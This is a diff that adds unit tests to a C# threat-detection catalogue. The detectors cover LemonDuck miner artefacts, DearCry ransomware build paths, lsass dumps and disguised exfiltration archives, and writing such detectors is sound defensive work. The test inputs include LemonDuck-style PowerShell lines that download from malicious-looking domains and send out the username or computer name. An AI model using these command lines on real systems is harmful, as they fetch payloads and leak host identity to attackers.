@@ -1,3 +1,4 @@
+using Afterpatch.Analysis.Detectors.Credentials;
 using Afterpatch.Analysis.Detectors.Defence;
 using Afterpatch.Analysis.Detectors.LemonDuck;
 using Afterpatch.Analysis.Detectors.Persistence;
@@ -55,10 +56,61 @@ public sealed class CatalogueTests
     [InlineData("port-proxy", "*/8080", "10.1.2.3/3389", "defence.port-proxy")]
     [InlineData("firewall-rule", "x", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=deny445|", "lemonduck.network")]
     [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=443|Name=Contoso Monitoring|", null)]
+    [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=5985|Name=rm|", "defence.firewall")]
+    [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=3389|RA4=10.0.0.0/255.0.0.0|Name=Admins|", null)]
+    [InlineData("firewall-rule", "x", "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=5985|Name=@FirewallAPI.dll,-30253|", null)]
     [InlineData("persistent-route", "203.0.113.9,255.255.255.255,0.0.0.0,1", "", "defence.null-route")]
     [InlineData("persistent-route", "10.8.0.0,255.255.0.0,10.1.1.1,1", "", null)]
     public void Proxies_rules_and_routes_are_told_by_what_they_do(string kind, string name, string rule, string? detector) =>
         Assert.Equal(detector, Run(new DefenceDetector(), Item(kind, name, "unknown", ("rule", rule))).SingleOrDefault()?.Detector);
+
+    [Theory]
+    [InlineData("8.8.8.8,9.9.9.9", "lemonduck.network")]
+    [InlineData("8.8.8.8 9.9.9.9", "lemonduck.network")]
+    [InlineData("8.8.8.8,8.8.4.4", null)]
+    [InlineData("10.0.0.10,9.9.9.9", null)]
+    public void The_name_servers_that_lemon_duck_sets_are_told(string servers, string? detector) =>
+        Assert.Equal(detector, Run(new DefenceDetector(), Item("dns-servers", "{card}", "unknown", ("servers", servers))).SingleOrDefault()?.Detector);
+
+    [Theory]
+    [InlineData("$m=New-Object Threading.Mutex($true,'Global\\eLocalMn',[ref]$f)", true)]
+    [InlineData("netsh interface portproxy add v4tov4 listenport=65529 connectaddress=1.1.1.1 connectport=53; iwr http://d.b69kq.com/x", true)]
+    [InlineData("(New-Object Net.WebClient).DownloadString('http://t.k3qh4.com/a.jsp?rep_20200820?'+$env:username)", true)]
+    [InlineData("$d='http://203.0.113.9/report.jsp?0.9*'+$env:computername; $p='/20.dat?x'", true)]
+    [InlineData("netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.5 connectport=443", false)]
+    [InlineData("Invoke-RestMethod https://intranet.contoso.example/report.jsp?month=2021-03", false)]
+    public void Scripts_of_lemon_duck_are_known_by_what_they_name(string text, bool isTold) =>
+        Assert.Equal(isTold ? ["lemonduck.script"] : [], Run(new LemonDuckDetector(KnowledgeBase.Embedded), Event("Microsoft-Windows-PowerShell/Operational", 4104, null, ("ScriptBlockText", text))).Select(finding => finding.Detector));
+
+    [Theory]
+    [InlineData(@"C:\Windows\Temp\nvd.zip", "lemonduck.file")]
+    [InlineData(@"C:\Windows\Temp\abc.exe.ori", "lemonduck.file")]
+    [InlineData(@"E:\UTFsync\inf_data", "lemonduck.file")]
+    [InlineData(@"C:\Users\adm\AppData\Local\Temp\svchost.exe", "intrusion.known-file")]
+    [InlineData(@"C:\root\lsass_0312.dmp", "credentials.lsass-dump")]
+    [InlineData(@"C:\PerfLogs\gpg-error.exe", "intrusion.known-file")]
+    [InlineData(@"C:\Windows\ServiceProfiles\NetworkService\AppData\Roaming\Microsoft\Windows\thumbcache_32.db", "intrusion.known-file")]
+    [InlineData(@"C:\Users\adm\AppData\Local\Microsoft\Windows\Explorer\thumbcache_32.db", null)]
+    [InlineData(@"C:\Windows\System32\svchost.exe", null)]
+    [InlineData(@"D:\Drivers\nvd.zip", null)]
+    [InlineData(@"D:\Tools\dig.exe", null)]
+    [InlineData(@"C:\Dumps\w3wp_0312.dmp", null)]
+    public void Names_of_the_catalogue_count_in_their_folders(string path, string? detector) =>
+        Assert.Equal(detector, Run(new KnownFileDetector(FileIndicators.Embedded), new MarkedFile { At = new(path), Path = path, Mark = "", SizeBytes = 1 }).SingleOrDefault()?.Detector);
+
+    [Theory]
+    [InlineData(@"C:\Users\john\Documents\Visual Studio 2008\Projects\EncryptFile -svcV2\Release\EncryptFile.exe.pdb", "ransomware.dearcry")]
+    [InlineData(@"d:\build\EncryptFile\Release\EncryptFile.pdb", null)]
+    public void A_program_is_known_by_where_it_was_built(string build, string? detector) =>
+        Assert.Equal(detector, Run(new KnownFileDetector(FileIndicators.Embedded), new FileDigest { At = new(@"C:\x.exe"), Path = @"C:\x.exe", SizeBytes = 1, Sha256 = "", Sha1 = "", Md5 = "", PdbPath = build }).SingleOrDefault()?.Detector);
+
+    [Theory]
+    [InlineData(@"C:\inetpub\wwwroot\aspnet_client\system_web\back.gif", "taken.disguised-archive")]
+    [InlineData(@"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\google.log", "taken.disguised-archive")]
+    [InlineData(@"C:\inetpub\wwwroot\downloads\manual.zip", null)]
+    [InlineData(@"D:\Pictures\back.gif", null)]
+    public void An_archive_under_a_false_name_among_pages_is_told(string path, string? detector) =>
+        Assert.Equal(detector, Run(new StolenSecretsDetector(), new ArchiveListing { At = new(path), Path = path, Format = "7z", SizeBytes = 1, Members = ["mail.pst"] }).SingleOrDefault()?.Detector);
 
     [Theory]
     [InlineData("0", null)]
